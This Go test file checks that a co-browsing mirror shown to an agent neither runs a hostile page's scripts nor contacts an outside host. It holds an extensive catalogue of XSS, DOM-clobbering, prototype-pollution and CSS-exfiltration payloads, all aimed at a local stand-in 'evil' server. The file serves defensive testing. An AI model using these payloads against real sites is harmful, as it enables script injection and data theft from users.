//go:build cobrowse

package browser_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"pupitre/app/cobrowse"
	. "pupitre/app/cobrowse/cobrowsetest"
	"pupitre/wasm/browser"
)

// A hostile page says whatever it likes: the recorder is code in its hands. In the agent's browser no script of it runs and nothing is asked of a host that is not
// allowed: not behind the sanitiser, and not without it either, for the viewer's frame has walls of its own.
func TestAHostilePageDoesNothingToTheAgent(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var asked []string // of anybody who must not be asked, and of the site
	note := func(who string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			asked = append(asked, who+r.URL.String())
			mu.Unlock()
			w.Header().Set("Access-Control-Allow-Origin", "*")
			http.NotFound(w, r)
		}
	}
	seen := func(prefix string) (list []string) {
		mu.Lock()
		defer mu.Unlock()
		for _, a := range asked {
			if strings.HasPrefix(a, prefix) {
				list = append(list, a)
			}
		}
		return list
	}
	evil := httptest.NewServer(note("evil "))
	t.Cleanup(evil.Close)
	m := openMirror(t, 800, 600, note("site "))
	for _, bare := range []bool{false, true} {
		t.Run(map[bool]string{false: "through the sanitiser", true: "past it"}[bare], func(t *testing.T) {
			m := m.part(t)
			last := fmt.Sprintf("/last-%t.png", bare)
			w := NewWriter()
			w.Begin(Begin{Width: 800, Height: 600, Address: m.site + "/", Base: m.site + "/"}, Doctype("html"),
				Element("html", Element("head", hostileHead(evil.URL)...), Element("body", hostileBody(evil.URL)...)))
			css := m.line.Offer("text/css", hostileCSS(evil.URL), bare)
			style := w.Next()
			w.Insert(2, First, Element("style"))
			w.Op(cobrowse.OpSheet)
			w.Node(style)
			w.Uint(uint64(len(css)))
			for _, c := range []byte(css) {
				w.Byte(c)
			}
			w.Op(cobrowse.OpComplete)
			m.line.Pretend(true, w.Take(), bare)
			m.await("the hostile page to be shown", func() bool {
				c, _ := m.line.Count()
				return c.Complete && c.Done == c.Messages
			})

			// What was harmless becomes something else.
			for _, change := range hostileChanges(evil.URL) {
				w.Insert(2, First, change.tree)
				id := w.Next() - 1
				for i := 0; i+1 < len(change.then); i += 2 {
					w.Op(cobrowse.OpAttr)
					w.Node(id)
					w.Word(change.then[i])
					w.Word(change.then[i+1])
				}
			}
			m.line.Pretend(false, w.Take(), bare)
			m.settle()
			used, err := m.inMirror(`(() => {
				for (const e of document.querySelectorAll("*")) {
					for (const kind of ["mouseover", "mouseenter", "focus", "focusin", "pointerdown", "mousedown", "click", "auxclick", "dblclick", "toggle"]) e.dispatchEvent(new MouseEvent(kind, { bubbles: true, cancelable: true }));
					e.click?.();
					try { e.requestSubmit?.(); } catch {}
				}
				return "used";
			})()`)
			if err != nil || used[0] != "used" {
				t.Fatalf("the mirror cannot be used: %q, %v", used, err)
			}

			// It goes on, and when this picture is asked for, what was to be asked for before has been.
			w.Insert(2, First, Leaf("img", "src", m.site+last))
			m.line.Pretend(false, w.Take(), bare)
			m.await("the last picture", func() bool { return len(seen("site "+last)) > 0 })
			for _, a := range seen("evil ") {
				t.Error("asked for:", a)
			}
			ran, err := m.inMirror(`(document.documentElement?.getAttribute("data-ran") ?? "") + (document.querySelector("[data-ran]") ? " ran" : "")`)
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range ran {
				if r != "" {
					t.Error("a script ran:", r)
				}
			}
			for _, f := range m.reads[1].frames.URLs() {
				if !strings.HasPrefix(f, m.line.URL+"/") && f != "about:blank" {
					t.Error("a frame is at", f)
				}
			}
			for _, trouble := range m.line.Troubles() {
				t.Error(trouble)
			}
		})
	}
}

// inMirror is an expression's value in each frame of the mirror.
func (m *mirrored) inMirror(expression string) ([]string, error) {
	f := m.reads[1].frames
	if err := f.Find(); err != nil {
		return nil, err
	}
	list, ok := browser.EvalInFrames[string](f, expression)
	if !ok {
		return nil, fmt.Errorf("a frame cannot be asked: %q", f.URLs())
	}
	var said []string
	for _, v := range list[1:] { // without the page around it
		said = append(said, v.Value)
	}
	return said, nil
}

// run is a script that cannot run unseen.
func run(evil, name string) string {
	return fmt.Sprintf(`document.documentElement.setAttribute("data-ran", %q); new Image().src = "%s/ran/%s"`, name, evil, name)
}

func hostileHead(evil string) []Tree {
	return []Tree{
		Element("script", Text(run(evil, "script"))),
		Element("script").With("src", evil+"/script.js"),
		Element("SCRIPT", Text(run(evil, "SCRIPT"))),
		Element("title", Text("x")),
		Leaf("meta", "http-equiv", "refresh", "content", "0;url="+evil+"/refresh"),
		Leaf("meta", "http-equiv", "Content-Security-Policy", "content", "script-src 'unsafe-inline'"),
		Leaf("base", "href", evil+"/base/", "target", "_top"),
		Leaf("link", "rel", "stylesheet", "href", evil+"/link.css"),
		Leaf("link", "rel", "preload", "as", "script", "href", evil+"/preload.js"),
		Leaf("link", "rel", "prefetch", "href", evil+"/prefetch"),
		Leaf("link", "rel", "dns-prefetch preconnect", "href", evil),
		Leaf("link", "rel", "icon", "href", evil+"/icon.png"),
		Leaf("link", "rel", "manifest", "href", evil+"/manifest.json"),
		Leaf("link", "rel", "modulepreload", "href", evil+"/module.js"),
		Leaf("link", "rel", "import", "href", evil+"/import.html"),
		Element("style", Text("@import '"+evil+"/import.css'; body { background: url("+evil+"/style.png) }")),
		Element("noscript", Element("img").With("src", evil+"/noscript.png")),
	}
}

func hostileBody(evil string) []Tree {
	js := "javascript:" + run(evil, "address")
	page := "<script>" + run(evil, "document") + "</script><img src=" + evil + "/document.png>"
	data := "data:text/html," + page
	list := []Tree{
		Element("p", Text("still here")),
		Leaf("img", "src", "nothing.png", "onerror", run(evil, "onerror"), "onload", run(evil, "onload")),
		Leaf("img", "src", evil+"/img.png", "srcset", evil+"/srcset.png 2x"),
		Leaf("img", "src", "//"+strings.TrimPrefix(evil, "http://")+"/scheme.png"),
		Leaf("img", "src", "\\\\"+strings.TrimPrefix(evil, "http://")+"\\slashes.png"),
		Leaf("img", "src", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='"+strings.ReplaceAll(run(evil, "svg-image"), "'", "")+"'><image href='"+evil+"/svg-image.png'/></svg>"),
		Element("picture", Leaf("source", "srcset", evil+"/source.png"), Leaf("img", "src", "x.png")),
		Leaf("input", "type", "image", "src", evil+"/input.png"),
		Leaf("input", "autofocus", "", "onfocus", run(evil, "onfocus")),
		Element("video", Leaf("source", "src", evil+"/video.webm"), Leaf("track", "src", evil+"/track.vtt", "default", "")).With("poster", evil+"/poster.png", "src", evil+"/video.mp4", "autoplay", "", "muted", ""),
		Element("audio").With("src", evil+"/audio.mp3", "autoplay", "", "onerror", run(evil, "audio")),
		Element("a", Text("press")).With("href", js, "ping", evil+"/ping", "target", "_top"),
		Element("a", Text("press")).With("href", " java\nscript:"+run(evil, "spaces")),
		Element("a", Text("press")).With("href", evil+"/link", "target", "_blank"),
		Element("a", Text("press")).With("href", data, "download", "x"),
		Element("area").With("href", js),
		Element("form", Leaf("input", "name", "a", "value", "b"), Leaf("input", "type", "submit", "formaction", js), Element("button", Text("send")).With("formaction", evil+"/button")).With("action", evil+"/form", "method", "post", "target", "_top"),
		Element("form", Element("button", Text("send"))).With("action", js),
		Element("iframe").With("src", js),
		Element("iframe").With("src", evil+"/iframe"),
		Element("iframe").With("src", data),
		Element("iframe").With("srcdoc", page, "sandbox", "allow-scripts allow-same-origin allow-top-navigation"),
		Element("iframe", Text(page)).With("name", "parent", "allow", "camera"),
		Element("frameset", Element("frame").With("src", js)).With("onload", run(evil, "frameset")),
		Element("object").With("data", data, "type", "text/html"),
		Element("object").With("data", evil+"/object.svg", "type", "image/svg+xml"),
		Element("embed").With("src", evil+"/embed.svg", "type", "image/svg+xml"),
		Element("applet").With("code", evil+"/applet.class"),
		Element("portal").With("src", evil+"/portal"),
		Element("fencedframe").With("src", evil+"/fenced"),
		Element("template", Element("script", Text(run(evil, "template")))).With("shadowrootmode", "open"),
		Element("div", Shadow(Element("script", Text(run(evil, "shadow"))), Leaf("img", "src", "x.png", "onerror", run(evil, "shadow-handler")), Element("style", Text("p { background: url("+evil+"/shadow.png) }")))),
		Element("table").With("background", evil+"/table.png"),
		Element("body").With("background", evil+"/body.png", "onload", run(evil, "body")),
		Element("div").With("style", "background: url("+evil+"/inline.png); list-style-image: url("+evil+"/list.png); cursor: url("+evil+"/cursor.png), auto"),
		Element("div").With("style", `background: \75\72\6c(`+evil+"/escaped.png); --x: url("+evil+"/variable.png); border-image: var(--x)"),
		Element("div").With("style", "background-image: image-set('"+evil+"/set.png' 1x); mask: url("+evil+"/mask.svg#m); filter: url("+evil+"/filter.svg#f); behavior: url("+evil+"/x.htc)"),
		Element("marquee", Text("x")).With("onstart", run(evil, "marquee")),
		Element("details", Element("summary")).With("open", "", "ontoggle", run(evil, "ontoggle")),
		Element("x-card").With("onconnected", run(evil, "custom"), "is", "x-card"),
		Element("meta").With("http-equiv", "refresh", "content", "0;url="+js),
		Element("isindex").With("action", js),
		Element("keygen").With("autofocus", "", "onfocus", run(evil, "keygen")),
		Element("plaintext", Text(page)),
		Element("xmp", Text(page)),
		Element("textarea", Text("</textarea>"+page)),
		Element("title", Text("</title>"+page)),
		Element("noembed", Text(page)),
		Element("p", Text(page)),
		Element("p").With("title", `"><script>`+run(evil, "title")+"</script>", `x"><script>`, "y", "onclick\x00", run(evil, "zero")),
		Math("math", Math("mi", Text("x")).With("href", js), Math("maction").With("actiontype", "statusline", "href", js), Math("annotation-xml", Element("script", Text(run(evil, "math")))).With("encoding", "text/html")),
		SVG("svg",
			SVG("script", Text(run(evil, "svg-script"))),
			SVG("script").With("href", evil+"/svg-script.js"),
			SVG("a", SVG("text", Text("press"))).With("xlink:href", js, "href", js),
			SVG("use").With("href", evil+"/use.svg#x"),
			SVG("use").With("xlink:href", "data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>"+run(evil, "use")+"</script></svg>#x"),
			SVG("image").With("href", evil+"/image.png"),
			SVG("feImage").With("href", evil+"/fe.png"),
			SVG("animate").With("attributeName", "href", "to", js, "begin", "0s", "onbegin", run(evil, "onbegin")),
			SVG("a", SVG("animate").With("attributeName", "href", "values", js), SVG("text", Text("press"))),
			SVG("set").With("attributeName", "onclick", "to", run(evil, "set")),
			SVG("handler", Text(run(evil, "handler"))).With("ev:event", "load"),
			SVG("foreignObject", Element("script", Text(run(evil, "foreign"))), Element("iframe").With("srcdoc", page)),
			SVG("style", Text("* { background: url("+evil+"/svg-style.png) }")),
			SVG("rect").With("fill", "url("+evil+"/paint.svg#p)", "style", "filter: url("+evil+"/rect.svg#f)"),
		).With("onload", run(evil, "svg-onload")),
		// Names that are properties of everything, or of the document.
		Element("form", Leaf("input", "name", "body"), Leaf("input", "id", "parentNode"), Leaf("input", "name", "appendChild")).With("id", "document", "name", "documentElement"),
		Leaf("img", "name", "querySelector", "id", "getElementById"),
		Element("__proto__").With("__proto__", "polluted", "constructor", "polluted"),
		Element("constructor", Text("x")).With("prototype", "polluted", "toString", "polluted", "hasOwnProperty", "polluted"),
		Element("p").With("constructor.prototype.ran", "1", "__defineGetter__", "1", "valueOf", "1"),
	}
	return list
}

// hostileChanges are elements that become hostile by attributes that come later.
func hostileChanges(evil string) []struct {
	tree Tree
	then []string
} {
	js := "javascript:" + run(evil, "later")
	type change = struct {
		tree Tree
		then []string
	}
	return []change{
		{Element("a"), []string{"href", js, "onclick", run(evil, "later-onclick")}},
		{Element("iframe"), []string{"srcdoc", "<script>" + run(evil, "later-srcdoc") + "</script>", "src", evil + "/later-frame", "sandbox", "allow-same-origin allow-scripts"}},
		{Leaf("meta"), []string{"http-equiv", "refresh", "content", "0;url=" + evil + "/later-refresh"}},
		{Leaf("base"), []string{"href", evil + "/later-base/"}},
		{Leaf("link"), []string{"href", evil + "/later-link.css", "rel", "stylesheet"}},
		{Leaf("link", "rel", "stylesheet"), []string{"href", evil + "/later-sheet.css", "rel", "preload", "as", "image"}},
		{Leaf("img"), []string{"src", evil + "/later.png", "srcset", evil + "/later-set.png", "onerror", run(evil, "later-onerror")}},
		{Element("div"), []string{"style", "background: url(" + evil + "/later-style.png)"}},
		{Element("form"), []string{"action", js}},
		{SVG("animate"), []string{"to", js, "values", js, "attributeName", "href"}},
		{SVG("use"), []string{"href", evil + "/later-use.svg#x"}},
		{Element("object"), []string{"data", evil + "/later-object"}},
		{Element("script"), []string{"src", evil + "/later-script.js", "type", "module"}},
		{Element("video"), []string{"src", evil + "/later-video", "poster", evil + "/later-poster"}},
	}
}

func hostileCSS(evil string) string {
	return strings.ReplaceAll(`
		@import "EVIL/import.css"; @import url(EVIL/import2.css) screen;
		@font-face { font-family: leak; src: url(EVIL/font.woff2); unicode-range: U+41 }
		@namespace url(EVIL/namespace);
		p { font-family: leak; background: url("EVIL/sheet.png") }
		input[value^="a"] { background: url(EVIL/exfiltrate-a.png) }
		p::before { content: url(EVIL/content.png) }
		p::after { content: image-set("EVIL/set.png" 1x, url(EVIL/set2.png) 2x) }
		div { background: -webkit-image-set(url(EVIL/webkit.png) 1x); cursor: url(EVIL/cursor.png), auto; --x: url(EVIL/variable.png); mask-image: var(--x) }
		@media screen { body { background: u\72l(EVIL/escaped.png) } }
		@supports (display: block) { html { list-style: url(EVIL/list.png) } }
		@layer x { a { border-image-source: url(EVIL/border.png) } }
		p { background: url(EVIL/unclosed.png`, "EVIL", evil)
}
